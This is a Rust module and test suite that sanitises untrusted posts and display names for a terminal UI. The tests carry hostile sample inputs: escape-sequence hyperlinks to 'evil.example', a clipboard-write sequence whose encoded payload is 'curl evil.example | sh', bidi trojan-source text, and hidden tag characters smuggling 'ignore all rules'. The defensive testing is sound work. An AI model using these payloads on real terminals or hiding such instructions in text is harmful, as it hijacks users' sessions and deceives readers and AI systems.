//! Sanitising untrusted text (posts, display names, handles) at ingest.
//!
//! Everything that arrives from the network passes through [`sanitize_text`]
//! or [`sanitize_line`] exactly once, before it is stored or rendered. The
//! output can be handed to ratatui cells without any further escaping: it
//! contains no terminal control sequences, no C0/C1 controls other than
//! `'\n'`, no bidi controls that could reorder neighbouring UI text, no
//! invisible formatting characters that hide content from the operator, and
//! no unbounded stacks of combining marks.
//!
//! The work is one pass over the input `char`s through two small state
//! machines: `Parser` recognises and drops escape sequences and controls
//! (ECMA-48 / VT500 shaped), and `Filter` applies the Unicode rules that
//! depend on the neighbouring *kept* characters. Because every decision
//! depends only on what was kept so far, sanitising is idempotent.
//!
//! Widths: ratatui gives each grapheme cluster the width `unicode-width` computes for the
//! whole cluster, while terminals (tmux above all) differ on emoji sequences: some add up
//! their code points, some join them. Where the two disagree the diff renderer leaves ghost
//! cells. So the output holds only clusters whose width is the same both ways: emoji ZWJ
//! sequences are split into their emoji (ZWJ dropped), presentation selectors (VS15/VS16)
//! and skin-tone modifiers are dropped, and regional-indicator flags become their letters
//! in brackets (`🇵🇱` → `[PL]`). Subdivision flags (black flag + tags) are 2 cells either
//! way and stay.

/// Escape (`ESC`, U+001B).
const ESC: char = '\u{1b}';
/// Bell, accepted as a string terminator (xterm convention).
const BEL: char = '\u{07}';
/// Cancel and Substitute abort any sequence in progress (ECMA-48).
const CAN: char = '\u{18}';
const SUB: char = '\u{1a}';
/// 8-bit C1 introducers and terminator.
const DCS_8BIT: char = '\u{90}';
const SOS_8BIT: char = '\u{98}';
const CSI_8BIT: char = '\u{9b}';
const ST_8BIT: char = '\u{9c}';
const OSC_8BIT: char = '\u{9d}';
const PM_8BIT: char = '\u{9e}';
const APC_8BIT: char = '\u{9f}';
/// Next line, line separator, paragraph separator: all become line breaks.
const NEL: char = '\u{85}';
const LINE_SEP: char = '\u{2028}';
const PARA_SEP: char = '\u{2029}';
const ZWNJ: char = '\u{200c}';
/// Base of emoji tag sequences (subdivision flags such as England).
const BLACK_FLAG: char = '\u{1f3f4}';
const CANCEL_TAG: char = '\u{e007f}';

/// Combining marks allowed on one base character ("Zalgo" cap).
const MAX_MARKS: usize = 4;
/// Consecutive blank lines kept in body text.
const MAX_BLANK_LINES: usize = 2;
/// Longest tag run kept after a black flag: up to 7 spec chars + cancel tag
/// (CLDR subdivision ids are at most 7 chars, e.g. `gbeng` is 5).
const MAX_TAG_RUN: usize = 8;
/// Shortest tag run kept after a black flag: 2 spec chars + cancel tag.
const MIN_TAG_RUN: usize = 3;

/// Multi-line body text (a post): keeps '\n' line breaks (CRLF and lone CR become '\n', runs of more than 2 blank lines collapse to 2), turns '\t' into a single space.
///
/// Called once at ingest so nothing a stranger posts can drive the terminal,
/// hide or reorder text, or smear over neighbouring rows.
#[must_use]
pub fn sanitize_text(input: &str) -> String {
    let out = run(input, Mode::Text);
    debug_assert!(is_display_safe(&out));
    out
}

/// One-line fields (display names, handles, topics): like sanitize_text but every line break becomes a single space, and leading/trailing whitespace is trimmed.
///
/// Single-row widgets (lists, headers) must never be split or padded by a
/// hostile name, so the result is one trimmed line.
#[must_use]
pub fn sanitize_line(input: &str) -> String {
    let out = run(input, Mode::Line);
    debug_assert!(is_display_safe(&out) && !out.contains('\n'));
    out
}

/// True when every char is safe to hand to a terminal cell (used by tests and debug assertions): no C0 except '\n', no DEL, no C1, no bidi controls, no zero-width/invisible formatting chars listed below, no tag chars.
///
/// The one exception to "no tag chars" is a well-formed subdivision flag
/// (U+1F3F4 followed by a short run of tag chars ending in U+E007F), which is
/// exactly what the sanitisers keep.
#[must_use]
pub fn is_display_safe(s: &str) -> bool {
    let mut chars = s.chars().peekable();
    let mut prev: Option<char> = None;
    while let Some(c) = chars.next() {
        if is_tag(c) {
            if prev != Some(BLACK_FLAG) {
                return false;
            }
            let mut run = TagRun::default();
            run.push(c);
            while let Some(&next) = chars.peek() {
                if !is_tag(next) {
                    break;
                }
                run.push(next);
                chars.next();
            }
            if !run.is_valid() {
                return false;
            }
            prev = Some(CANCEL_TAG);
            continue;
        }
        if (c != '\n' && c.is_control()) || is_always_removed(c) || is_regional_indicator(c) {
            return false;
        }
        prev = Some(c);
    }
    true
}

/// Body text keeps line breaks; one-line fields turn them into spaces.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Mode {
    Text,
    Line,
}

fn run(input: &str, mode: Mode) -> String {
    let mut parser = Parser::new(mode, input.len());
    for c in input.chars() {
        parser.feed(c);
    }
    parser.finish()
}

// ---------------------------------------------------------------------------
// Stage 1: escape sequences and control characters.
// ---------------------------------------------------------------------------

/// What the escape parser hands on: a printable char or a line break.
#[derive(Clone, Copy)]
enum Token {
    Char(char),
    Break,
}

/// States of the escape-sequence recogniser.
#[derive(Clone, Copy, PartialEq, Eq)]
enum EscState {
    /// Ordinary text.
    Ground,
    /// Just saw ESC.
    Escape,
    /// ESC followed by intermediates 0x20–0x2F, waiting for the final char.
    EscIntermediate,
    /// Inside CSI parameters/intermediates, waiting for a final 0x40–0x7E.
    Csi,
    /// Inside an OSC/DCS/SOS/PM/APC payload, waiting for BEL or ST.
    Str,
    /// Saw ESC inside a string payload: `\` completes ST, anything else
    /// aborts the string and starts a new escape sequence (as terminals do).
    StrEsc,
}

struct Parser {
    state: EscState,
    /// The previous ground char was CR, so an immediate LF is its partner.
    after_cr: bool,
    filter: Filter,
}

impl Parser {
    fn new(mode: Mode, capacity: usize) -> Self {
        Self {
            state: EscState::Ground,
            after_cr: false,
            filter: Filter::new(mode, capacity),
        }
    }

    fn feed(&mut self, c: char) {
        // A char that ends a sequence without belonging to it is examined
        // again in the new state; two re-examinations always suffice, the
        // bound only guarantees termination.
        for _ in 0..4 {
            if self.step(c) {
                return;
            }
        }
    }

    /// Returns `true` when `c` was consumed, `false` when it must be
    /// re-examined in the (new) current state.
    fn step(&mut self, c: char) -> bool {
        use EscState::*;
        match self.state {
            Ground => {
                self.ground(c);
                true
            }
            Escape => match c {
                '[' => {
                    self.state = Csi;
                    true
                }
                ']' | 'P' | 'X' | '^' | '_' => {
                    self.state = Str;
                    true
                }
                '\u{20}'..='\u{2f}' => {
                    self.state = EscIntermediate;
                    true
                }
                '\u{30}'..='\u{7e}' => {
                    self.state = Ground;
                    true
                }
                _ => {
                    // Lone ESC before a control or non-ASCII char: drop the
                    // ESC only.
                    self.state = Ground;
                    false
                }
            },
            EscIntermediate => match c {
                '\u{20}'..='\u{2f}' => true,
                '\u{30}'..='\u{7e}' => {
                    self.state = Ground;
                    true
                }
                _ => {
                    self.state = Ground;
                    false
                }
            },
            Csi => match c {
                '\u{20}'..='\u{3f}' => true,
                '\u{40}'..='\u{7e}' => {
                    self.state = Ground;
                    true
                }
                _ => {
                    // Missing final byte: stop here so a broken CSI cannot
                    // swallow the rest of a post; `c` is ordinary input.
                    self.state = Ground;
                    false
                }
            },
            Str => match c {
                BEL | ST_8BIT | CAN | SUB => {
                    self.state = Ground;
                    true
                }
                ESC => {
                    self.state = StrEsc;
                    true
                }
                DCS_8BIT | SOS_8BIT | CSI_8BIT | OSC_8BIT | PM_8BIT | APC_8BIT => {
                    self.state = Ground;
                    false
                }
                _ => true,
            },
            StrEsc => {
                if c == '\\' {
                    self.state = Ground;
                    true
                } else {
                    self.state = Escape;
                    false
                }
            }
        }
    }

    fn ground(&mut self, c: char) {
        let after_cr = std::mem::take(&mut self.after_cr);
        match c {
            '\n' => {
                if !after_cr {
                    self.filter.push(Token::Break);
                }
            }
            '\r' => {
                self.filter.push(Token::Break);
                self.after_cr = true;
            }
            '\t' => self.filter.push(Token::Char(' ')),
            NEL | LINE_SEP | PARA_SEP => self.filter.push(Token::Break),
            ESC => self.state = EscState::Escape,
            CSI_8BIT => self.state = EscState::Csi,
            DCS_8BIT | SOS_8BIT | OSC_8BIT | PM_8BIT | APC_8BIT => self.state = EscState::Str,
            // Remaining C0, DEL and C1 controls (including a stray 8-bit ST).
            _ if c.is_control() => {}
            _ => self.filter.push(Token::Char(c)),
        }
    }

    /// Anything still open at the end of input (lone ESC, unterminated
    /// CSI/OSC/DCS/...) is dropped.
    fn finish(self) -> String {
        self.filter.finish()
    }
}

// ---------------------------------------------------------------------------
// Stage 2: Unicode-level filtering of the printable stream.
// ---------------------------------------------------------------------------

/// What was last written to the output (ignoring dropped chars).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Prev {
    Start,
    Break,
    Char(char),
}

/// A run of tag characters, validated as a subdivision-flag tail.
#[derive(Default)]
struct TagRun {
    chars: Vec<char>,
    too_long: bool,
}

impl TagRun {
    fn push(&mut self, c: char) {
        if self.chars.len() < MAX_TAG_RUN {
            self.chars.push(c);
        } else {
            self.too_long = true;
        }
    }

    fn is_empty(&self) -> bool {
        self.chars.is_empty() && !self.too_long
    }

    /// 2–7 tag digits / tag lowercase letters, then exactly one cancel tag.
    fn is_valid(&self) -> bool {
        if self.too_long || self.chars.len() < MIN_TAG_RUN {
            return false;
        }
        match self.chars.split_last() {
            Some((&last, spec)) => {
                last == CANCEL_TAG
                    && spec.iter().all(
                        |&c| matches!(c, '\u{e0030}'..='\u{e0039}' | '\u{e0061}'..='\u{e007a}'),
                    )
            }
            None => false,
        }
    }
}

struct Filter {
    mode: Mode,
    out: String,
    prev: Prev,
    /// Combining marks kept since the last base char.
    marks: usize,
    /// ZWNJ waiting for a following kept char before it is written.
    joiner: Option<char>,
    /// Tag chars waiting for the end of their run to be judged.
    tags: TagRun,
    /// Byte offset where the current output line starts (text mode).
    line_start: usize,
    /// The current output line holds only whitespace so far.
    line_blank: bool,
    /// Blank lines written in a row just before the current line.
    blank_run: usize,
}

impl Filter {
    fn new(mode: Mode, capacity: usize) -> Self {
        Self {
            mode,
            out: String::with_capacity(capacity),
            prev: Prev::Start,
            marks: 0,
            joiner: None,
            tags: TagRun::default(),
            line_start: 0,
            line_blank: true,
            blank_run: 0,
        }
    }

    fn push(&mut self, token: Token) {
        if let Token::Char(c) = token {
            if is_tag(c) {
                self.tags.push(c);
                return;
            }
        }
        self.flush_tags();
        match token {
            Token::Break => self.push_break(),
            Token::Char(c) => self.push_char(c),
        }
    }

    fn push_char(&mut self, c: char) {
        if c.is_control() || is_always_removed(c) {
            return;
        }
        if c == ZWNJ {
            // Only meaningful between two kept chars; at most one in a row.
            if matches!(self.prev, Prev::Char(_)) && self.joiner.is_none() {
                self.joiner = Some(c);
            }
            return;
        }
        if is_variation_selector(c) {
            // Needs a base, and never a second selector or a joiner before it.
            if let Prev::Char(p) = self.prev {
                if !is_variation_selector(p) && self.joiner.is_none() {
                    self.emit(c);
                }
            }
            return;
        }
        if is_combining_mark(c) {
            if matches!(self.prev, Prev::Char(_)) && self.marks < MAX_MARKS {
                self.emit(c);
                self.marks += 1;
            }
            return;
        }
        self.emit(c);
        self.marks = 0;
    }

    fn emit(&mut self, c: char) {
        if let Some(j) = self.joiner.take() {
            self.out.push(j);
        }
        self.out.push(c);
        self.prev = Prev::Char(c);
        if !c.is_whitespace() {
            self.line_blank = false;
        }
    }

    /// Keeps a finished tag run only as the tail of a subdivision flag.
    fn flush_tags(&mut self) {
        if self.tags.is_empty() {
            return;
        }
        let run = std::mem::take(&mut self.tags);
        if self.prev == Prev::Char(BLACK_FLAG) && self.joiner.is_none() && run.is_valid() {
            self.out.extend(run.chars.iter());
            self.prev = Prev::Char(CANCEL_TAG);
            self.marks = 0;
            self.line_blank = false;
        }
    }

    fn push_break(&mut self) {
        self.joiner = None;
        match self.mode {
            Mode::Line => self.out.push(' '),
            Mode::Text => {
                if self.line_blank {
                    self.blank_run += 1;
                } else {
                    self.blank_run = 0;
                }
                if self.blank_run > MAX_BLANK_LINES {
                    // Drop this (whitespace-only) line together with its break.
                    if self.out.is_char_boundary(self.line_start) {
                        self.out.truncate(self.line_start);
                    }
                } else {
                    self.out.push('\n');
                }
                self.line_start = self.out.len();
            }
        }
        self.line_blank = true;
        self.prev = Prev::Break;
        self.marks = 0;
    }

    fn finish(mut self) -> String {
        self.flush_tags();
        if self.out.chars().any(is_regional_indicator) {
            self.out = flags_as_letters(&self.out);
        }
        // A joiner still pending has nothing after it: drop it.
        match self.mode {
            Mode::Text => self.out,
            Mode::Line => {
                // Trimming must not strand a mark/selector/joiner at an edge
                // (it would lose its base and change on a second pass).
                let trimmed = self
                    .out
                    .trim_start_matches(|c: char| c.is_whitespace() || needs_base(c))
                    .trim_end_matches(|c: char| c.is_whitespace() || c == ZWNJ);
                if trimmed.len() == self.out.len() {
                    self.out
                } else {
                    trimmed.to_owned()
                }
            }
        }
    }
}

/// Regional indicators as letters: a pair (a flag) becomes `[PL]`, a lone one `[P]`. Pairs
/// are taken from the start of each run, as grapheme segmentation pairs them.
fn flags_as_letters(s: &str) -> String {
    let letter = |c: char| char::from(b'A' + (c as u32 - 0x1f1e6) as u8);
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if !is_regional_indicator(c) {
            out.push(c);
            continue;
        }
        out.push('[');
        out.push(letter(c));
        if let Some(second) = chars.next_if(|&n| is_regional_indicator(n)) {
            out.push(letter(second));
        }
        out.push(']');
    }
    out
}

// ---------------------------------------------------------------------------
// Character classes.
// ---------------------------------------------------------------------------

/// Chars that are never kept: bidi controls, invisible format chars,
/// noncharacters, and the emoji-sequence parts terminals disagree on (see the module
/// comment: ZWJ, VS15/VS16, skin-tone modifiers).
fn is_always_removed(c: char) -> bool {
    matches!(
        c,
        // Bidi embeddings/overrides, isolates, marks.
        '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{061c}'
            // Zero-width and invisible formatting.
            | '\u{200b}'
            | '\u{2060}'
            | '\u{feff}'
            | '\u{180e}'
            | '\u{2061}'..='\u{2064}'
            | '\u{206a}'..='\u{206f}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{00ad}'
            | '\u{034f}'
            // Emoji sequence parts whose width terminals disagree on.
            | '\u{200d}'
            | '\u{fe0e}'
            | '\u{fe0f}'
            | '\u{1f3fb}'..='\u{1f3ff}'
            // Noncharacters.
            | '\u{fdd0}'..='\u{fdef}'
    ) || ((c as u32) & 0xfffe) == 0xfffe
}

fn is_tag(c: char) -> bool {
    matches!(c, '\u{e0000}'..='\u{e007f}')
}

fn is_variation_selector(c: char) -> bool {
    matches!(c, '\u{fe00}'..='\u{fe0f}' | '\u{e0100}'..='\u{e01ef}')
}

/// Combining marks (approximation of general category Mn) that are capped.
fn is_combining_mark(c: char) -> bool {
    matches!(
        c,
        '\u{0300}'..='\u{036f}'
            | '\u{1ab0}'..='\u{1aff}'
            | '\u{1dc0}'..='\u{1dff}'
            | '\u{20d0}'..='\u{20ff}'
            | '\u{fe20}'..='\u{fe2f}'
    )
}

fn is_regional_indicator(c: char) -> bool {
    matches!(c, '\u{1f1e6}'..='\u{1f1ff}')
}

/// Chars that only make sense attached to a preceding char.
fn needs_base(c: char) -> bool {
    c == ZWNJ || is_variation_selector(c) || is_combining_mark(c) || is_tag(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = include_str!(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/hostile.txt"
    ));

    /// The hostile corpus: one JSON string literal per line.
    fn hostile_cases() -> Vec<String> {
        HOSTILE
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str::<String>(l).expect("fixture line is a JSON string"))
            .collect()
    }

    const FAMILY: &str = "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}";
    const FLAG_PL: &str = "\u{1f1f5}\u{1f1f1}";
    const FLAG_ENGLAND: &str = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";

    /// Structural rules the sanitisers promise beyond per-char safety.
    fn assert_invariants(out: &str, line_mode: bool, input: &str) {
        assert!(is_display_safe(out), "unsafe output {out:?} for {input:?}");
        assert!(
            !out.contains(['\r', '\t']),
            "CR/tab left in {out:?} for {input:?}"
        );
        if line_mode {
            assert!(!out.contains('\n'), "break in line {out:?} for {input:?}");
            assert_eq!(out, out.trim(), "untrimmed line for {input:?}");
        } else {
            let mut blank = 0;
            let mut segments: Vec<&str> = out.split('\n').collect();
            segments.pop(); // the unterminated tail is not a counted line
            for seg in segments {
                if seg.chars().all(char::is_whitespace) {
                    blank += 1;
                    assert!(blank <= 2, "too many blank lines in {out:?}");
                } else {
                    blank = 0;
                }
            }
        }
        let chars: Vec<char> = out.chars().collect();
        let mut marks = 0;
        for (i, &c) in chars.iter().enumerate() {
            let prev = i.checked_sub(1).and_then(|p| chars.get(p)).copied();
            let next = chars.get(i + 1).copied();
            let attached = prev.is_some_and(|p| p != '\n');
            if is_combining_mark(c) {
                marks += 1;
                assert!(attached, "unattached mark in {out:?} for {input:?}");
                assert!(marks <= MAX_MARKS, "zalgo not capped in {out:?}");
            } else if c == ZWNJ {
                assert!(attached && next.is_some_and(|n| n != '\n'), "{out:?}");
                assert!(next.is_none_or(|n| n != ZWNJ), "{out:?}");
            } else if is_variation_selector(c) {
                assert!(attached, "unattached selector in {out:?}");
                let p = prev.unwrap_or('\n');
                assert!(!is_variation_selector(p) && p != ZWNJ, "{out:?}");
            } else {
                marks = 0;
            }
        }
    }

    fn assert_both_ok(input: &str) {
        let text = sanitize_text(input);
        let line = sanitize_line(input);
        assert_invariants(&text, false, input);
        assert_invariants(&line, true, input);
        assert_eq!(sanitize_text(&text), text, "text not idempotent: {input:?}");
        assert_eq!(sanitize_line(&line), line, "line not idempotent: {input:?}");
    }

    #[test]
    fn csi_sequences_are_removed() {
        assert_eq!(sanitize_text("\u{1b}[31;1mred\u{1b}[0m plain"), "red plain");
        assert_eq!(sanitize_text("\u{1b}[2J\u{1b}[Hhello"), "hello");
        assert_eq!(sanitize_text("ab\u{1b}[10;20Hcd\u{1b}[3Aef"), "abcdef");
        assert_eq!(sanitize_text("\u{1b}[?1049h\u{1b}[?25lx"), "x");
        assert_eq!(sanitize_text("\u{1b}[1 qcursor"), "cursor");
    }

    #[test]
    fn unterminated_csi_is_dropped() {
        assert_eq!(sanitize_text("before\u{1b}[31"), "before");
        assert_eq!(sanitize_text("before\u{1b}["), "before");
        assert_eq!(sanitize_text("before\u{9b}1;2"), "before");
    }

    #[test]
    fn csi_without_final_byte_stops_at_text() {
        assert_eq!(
            sanitize_text("\u{1b}[1;2żółw jest szybki"),
            "żółw jest szybki"
        );
        assert_eq!(sanitize_text("x\u{1b}[38;5;\nnext line"), "x\nnext line");
        let long = "ąę ".repeat(500);
        assert_eq!(sanitize_text(&format!("\u{1b}[12;{long}")), long);
        assert_eq!(sanitize_text("\u{1b}[12\u{1b}[0mok"), "ok");
    }

    #[test]
    fn osc_title_sequences_are_removed() {
        assert_eq!(sanitize_text("\u{1b}]0;pwned\u{7}after"), "after");
        assert_eq!(sanitize_text("\u{1b}]2;pwned\u{1b}\\after"), "after");
        assert_eq!(sanitize_text("\u{1b}]2;pwned\u{9c}after"), "after");
    }

    #[test]
    fn osc8_hyperlink_with_bel_is_removed() {
        let s = "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}";
        assert_eq!(sanitize_text(s), "click");
    }

    #[test]
    fn osc8_hyperlink_with_st_is_removed() {
        let s = "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\";
        assert_eq!(sanitize_text(s), "click");
    }

    #[test]
    fn osc52_clipboard_write_is_removed() {
        let s = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}ok";
        assert_eq!(sanitize_text(s), "ok");
        assert_eq!(sanitize_text("\u{1b}]52;c;?\u{1b}\\ok"), "ok");
    }

    #[test]
    fn dcs_sos_pm_apc_are_removed() {
        assert_eq!(sanitize_text("\u{1b}Pq#0;2;0;0;0#1~~@@\u{1b}\\a"), "a");
        assert_eq!(sanitize_text("\u{1b}Xsos payload\u{1b}\\b"), "b");
        assert_eq!(sanitize_text("\u{1b}^privacy\u{1b}\\c"), "c");
        assert_eq!(
            sanitize_text("\u{1b}_Gf=100,a=T;iVBORw0KGgo=\u{1b}\\d"),
            "d"
        );
        assert_eq!(sanitize_text("\u{1b}_Ga=d\u{7}e"), "e");
    }

    #[test]
    fn unterminated_string_sequences_drop_to_end() {
        assert_eq!(sanitize_text("visible\u{1b}]0;swallowed"), "visible");
        assert_eq!(sanitize_text("visible\u{1b}]8;;http://x"), "visible");
        assert_eq!(sanitize_text("visible\u{1b}P$qm more"), "visible");
        assert_eq!(sanitize_text("visible\u{1b}_Ga=d more"), "visible");
        assert_eq!(sanitize_text("visible\u{1b}Xsos"), "visible");
        assert_eq!(sanitize_text("visible\u{1b}^pm"), "visible");
        assert_eq!(sanitize_text("visible\u{9d}0;title"), "visible");
        assert_eq!(sanitize_text("visible\u{1b}]0;x\u{1b}"), "visible");
    }

    #[test]
    fn eight_bit_c1_introducers_are_interpreted() {
        assert_eq!(sanitize_text("\u{9b}2J\u{9b}31mred\u{9b}0m"), "red");
        assert_eq!(sanitize_text("\u{9d}0;title\u{9c}a"), "a");
        assert_eq!(
            sanitize_text("\u{9d}8;;http://evil\u{7}b\u{9d}8;;\u{9c}"),
            "b"
        );
        assert_eq!(sanitize_text("\u{90}+q544e\u{9c}c"), "c");
        assert_eq!(sanitize_text("\u{98}sos\u{9c}d"), "d");
        assert_eq!(sanitize_text("\u{9e}pm\u{9c}e"), "e");
        assert_eq!(sanitize_text("\u{9f}Ga=T\u{9c}f"), "f");
    }

    #[test]
    fn nested_and_aborted_sequences() {
        let s = "\u{1b}]0;\u{1b}]0;inner\u{7}outer\u{7}tail";
        assert_eq!(sanitize_text(s), "outertail");
        assert_eq!(sanitize_text("\u{1b}[\u{1b}[31mX"), "X");
        assert_eq!(sanitize_text("\u{1b}P\u{1b}]52;c;eA==\u{7}after"), "after");
        assert_eq!(sanitize_text("\u{1b}]0;t\u{9b}31mX"), "X");
        assert_eq!(sanitize_text("\u{1b}]0;title\u{18}visible"), "visible");
    }

    #[test]
    fn two_char_escapes_are_removed() {
        let s = "\u{1b}c\u{1b}7a\u{1b}8\u{1b}(B\u{1b}#8\u{1b} F\u{1b}%Gb\u{1b}=\u{1b}>";
        assert_eq!(sanitize_text(s), "ab");
        // An ESC not followed by an escape char only loses the ESC.
        assert_eq!(sanitize_text("\u{1b}ł\u{1b}\nx"), "ł\nx");
        assert_eq!(sanitize_text("\u{1b}(ą"), "ą");
    }

    #[test]
    fn esc_at_end_is_dropped() {
        assert_eq!(sanitize_text("\u{1b}"), "");
        assert_eq!(sanitize_text("text\u{1b}"), "text");
        assert_eq!(sanitize_line("name\u{1b}"), "name");
        assert_eq!(sanitize_text("text\u{1b}("), "text");
    }

    #[test]
    fn c0_controls_and_del_are_removed() {
        assert_eq!(sanitize_text("nul\0in\0middle"), "nulinmiddle");
        assert_eq!(sanitize_text("del\u{7f}ete"), "delete");
        assert_eq!(sanitize_text("safe\u{8}\u{8}\u{8}\u{8}evil"), "safeevil");
        assert_eq!(sanitize_text("\u{7}\u{b}\u{c}\u{e}\u{1a}\u{1c}\u{1f}"), "");
    }

    #[test]
    fn c1_controls_are_removed() {
        assert_eq!(
            sanitize_text("\u{80}a\u{81}b\u{8d}c\u{96}d\u{9c}e\u{9a}"),
            "abcde"
        );
    }

    #[test]
    fn crlf_and_lone_cr_become_newlines() {
        assert_eq!(sanitize_text("l1\r\nl2\r\n\r\nl3\r"), "l1\nl2\n\nl3\n");
        assert_eq!(
            sanitize_text("Approve refund\rDeny refund"),
            "Approve refund\nDeny refund"
        );
        assert_eq!(sanitize_text("a\r\rb"), "a\n\nb");
        assert_eq!(sanitize_line("a\r\nb\rc"), "a b c");
    }

    #[test]
    fn tabs_become_single_spaces() {
        assert_eq!(sanitize_text("a\tb\t\tc"), "a b  c");
        assert_eq!(sanitize_line("\tname\t"), "name");
    }

    #[test]
    fn unicode_line_separators_are_breaks() {
        assert_eq!(sanitize_text("a\u{2028}b\u{2029}c\u{85}d"), "a\nb\nc\nd");
        assert_eq!(sanitize_line("a\u{2028}b\u{2029}c\u{85}d"), "a b c d");
    }

    #[test]
    fn blank_line_runs_collapse_to_two() {
        assert_eq!(sanitize_text("a\n\n\n\n\n\n\nb"), "a\n\n\nb");
        assert_eq!(sanitize_text("a\n\n\nb"), "a\n\n\nb");
        assert_eq!(sanitize_text("a\n \n\t\n  \n \nb"), "a\n \n \nb");
        assert_eq!(sanitize_text("\n\n\n\n\nx"), "\n\nx");
        assert_eq!(sanitize_text("a\n\u{1b}[2J\n\u{200b}\n\n\nb"), "a\n\n\nb");
    }

    #[test]
    fn line_fields_join_breaks_and_trim() {
        assert_eq!(sanitize_line("  Jane\n\nDoe \t"), "Jane  Doe");
        assert_eq!(sanitize_line("\u{200b} @handle \u{200b}"), "@handle");
        assert_eq!(sanitize_line(" \u{301}x"), "x");
        assert_eq!(sanitize_line("x\u{200c} "), "x");
        assert_eq!(sanitize_line("\n\n"), "");
    }

    #[test]
    fn bidi_controls_are_removed() {
        let trojan = "access = \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\"";
        assert_eq!(sanitize_text(trojan), "access = \"user // admin \"");
        assert_eq!(
            sanitize_text(
                "\u{200e}a\u{200f}b\u{61c}c\u{202a}\u{202b}\u{202c}\u{202d}\u{2067}\u{2068}"
            ),
            "abc"
        );
        assert_eq!(sanitize_line("\u{202e}nimda"), "nimda");
    }

    #[test]
    fn invisible_format_chars_are_removed() {
        assert_eq!(
            sanitize_text("pay\u{200b}pal\u{2060}.com\u{feff}"),
            "paypal.com"
        );
        let s = "co\u{ad}op\u{34f}\u{180e}\u{2061}\u{2064}\u{206a}\u{206f}\u{fff9}\u{fffa}\u{fffb}";
        assert_eq!(sanitize_text(s), "coop");
    }

    #[test]
    fn emoji_sequences_fall_apart_into_their_emoji() {
        assert_eq!(sanitize_text(FAMILY), "\u{1f468}\u{1f469}\u{1f467}");
        let rainbow = "\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}";
        assert_eq!(sanitize_text(rainbow), "\u{1f3f3}\u{1f308}");
        let tone = "\u{1f469}\u{1f3fd}\u{200d}\u{1f4bb}";
        assert_eq!(sanitize_text(tone), "\u{1f469}\u{1f4bb}");
        assert_eq!(sanitize_text("a\u{200d}b"), "ab");
        assert_eq!(sanitize_text("\u{200d}\u{1f468}"), "\u{1f468}");
        assert_eq!(sanitize_text("\u{1f468}\u{200d}"), "\u{1f468}");
        assert_eq!(
            sanitize_text("\u{1f468}\u{200d}\n\u{1f469}"),
            "\u{1f468}\n\u{1f469}"
        );
    }

    #[test]
    fn zwnj_is_kept_only_in_context() {
        let persian = "می\u{200c}خواهم";
        assert_eq!(sanitize_text(persian), persian);
        assert_eq!(
            sanitize_text("\u{200c}a\u{200c}\u{200c}b\u{200c}"),
            "a\u{200c}b"
        );
        assert_eq!(sanitize_text("a\u{200c}\u{200b}b"), "a\u{200c}b");
    }

    #[test]
    fn variation_selectors_need_a_base() {
        // Presentation selectors go (see the module comment); the others need a base.
        assert_eq!(sanitize_text("\u{2764}\u{fe0f}"), "\u{2764}");
        assert_eq!(sanitize_text("#\u{fe0f}\u{20e3}"), "#\u{20e3}");
        assert_eq!(sanitize_text("\u{fe00}a"), "a");
        assert_eq!(sanitize_text("a\n\u{fe01}b"), "a\nb");
        assert_eq!(sanitize_text("a\u{fe00}\u{fe00}\u{fe0e}"), "a\u{fe00}");
    }

    #[test]
    fn regional_indicator_flags_become_letters() {
        assert_eq!(sanitize_text(FLAG_PL), "[PL]");
        assert_eq!(sanitize_line(&format!("Kraków {FLAG_PL}")), "Kraków [PL]");
        // Pairs from the start of a run; a lone one stands alone.
        assert_eq!(
            sanitize_text("\u{1f1fa}\u{1f1e6}\u{1f1f5}\u{1f1f1}\u{1f1e9}"),
            "[UA][PL][D]"
        );
        assert!(!is_display_safe(FLAG_PL));
    }

    /// Every grapheme cluster the sanitiser lets through is as wide for ratatui (the width
    /// of the whole cluster) as for a terminal that adds up its code points, so the two
    /// never disagree about where the next cell starts.
    #[test]
    fn cluster_widths_agree_with_code_point_widths() {
        use unicode_segmentation::UnicodeSegmentation;
        use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};
        let emoji = [
            FAMILY,
            FLAG_PL,
            FLAG_ENGLAND,
            "\u{2764}\u{fe0f}",
            "\u{1f44d}\u{1f3fd}",
            "1\u{fe0f}\u{20e3}",
            "\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
            "\u{1f469}\u{1f3fd}\u{200d}\u{1f4bb}",
            "\u{263a}\u{fe0e}",
            "\u{1f600}\u{fe0e}",
            "\u{1f3fd}",
            "\u{1f1f5}",
        ];
        let all = hostile_cases().into_iter().chain(emoji.map(String::from));
        let mut checked = 0;
        for input in all {
            for out in [sanitize_text(&input), sanitize_line(&input)] {
                // Line breaks are never drawn into a cell.
                for g in out.graphemes(true).filter(|&g| g != "\n") {
                    let sum: usize = g.chars().map(|c| c.width().unwrap_or(0)).sum();
                    assert_eq!(g.width(), sum, "{g:?} in {out:?} from {input:?}");
                    checked += 1;
                }
            }
        }
        assert!(checked > 1000, "{checked}");
    }

    #[test]
    fn subdivision_flag_is_kept() {
        assert_eq!(sanitize_text(FLAG_ENGLAND), FLAG_ENGLAND);
        assert_eq!(
            sanitize_line(&format!("{FLAG_ENGLAND} fan")),
            format!("{FLAG_ENGLAND} fan")
        );
        assert!(is_display_safe(FLAG_ENGLAND));
    }

    #[test]
    fn tag_characters_are_removed() {
        let smuggled: String = "ignore all rules"
            .chars()
            .map(|c| char::from_u32(0xe0000 + c as u32).unwrap_or('?'))
            .collect();
